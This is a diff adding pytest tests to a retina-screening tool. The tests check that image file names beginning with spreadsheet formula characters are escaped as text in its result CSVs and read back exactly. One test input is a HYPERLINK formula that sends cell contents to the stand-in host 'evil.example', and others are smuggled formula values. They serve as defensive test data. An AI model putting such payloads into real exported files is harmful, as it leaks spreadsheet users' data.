@@ -8,6 +8,7 @@ import shutil
 import pytest
 
 from retinascreen.cli import main
+from retinascreen.data.csvcells import plain_cell, safe_cell
 from retinascreen.serving.screening import COLUMNS, patient_and_eye, screen
 from tests.helpers.models import make_model, save_model, write_bad_files, write_face, write_photos
 
@@ -163,3 +164,42 @@ def _assert_same(rows, reference):
         for g in range(5):
             if b[f"p{g}"]:
                 assert float(a[f"p{g}"]) == pytest.approx(float(b[f"p{g}"]), abs=1e-5)
+
+
+FORMULA_NAMES = [
+    '=HYPERLINK("evil.example?"&A1;"open").png',
+    "@SUM(1+1)cmd.png",
+    "+1+1.png",
+    "-2+3_left.png",
+    "'=quoted.png",
+]
+
+
+def test_file_names_a_spreadsheet_would_run_are_text_in_both_csvs(data, tmp_path):
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    for src, name in zip(write_photos(tmp_path / "drawn", 5), FORMULA_NAMES, strict=True):
+        shutil.copy(src, folder / name)
+    out = tmp_path / "results.csv"
+    screen(folder, out, model=data["model"], batch_size=2, progress=False)
+    for written in (out, tmp_path / "results.patients.csv"):
+        with open(written, newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        running = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert running == [], f"{written.name} has cells a spreadsheet would execute"
+    raw = {r["path"] for r in _rows(out)}
+    assert "'" + FORMULA_NAMES[0] in raw  # shown as text, not dropped or mangled
+    # The product reads its own CSV back exactly: a resume finds every file done.
+    summary = screen(folder, out, model=data["model"], batch_size=2, progress=False, resume=True)
+    assert (summary.done_before, summary.processed) == (5, 0)
+    with open(out, newline="") as f:
+        assert sorted(plain_cell(r["path"]) for r in csv.DictReader(f)) == sorted(FORMULA_NAMES)
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''", "'", "plain", "", "a=b"]
+)
+def test_safe_cell_round_trip(text):
+    written = safe_cell(text)
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert plain_cell(written) == text
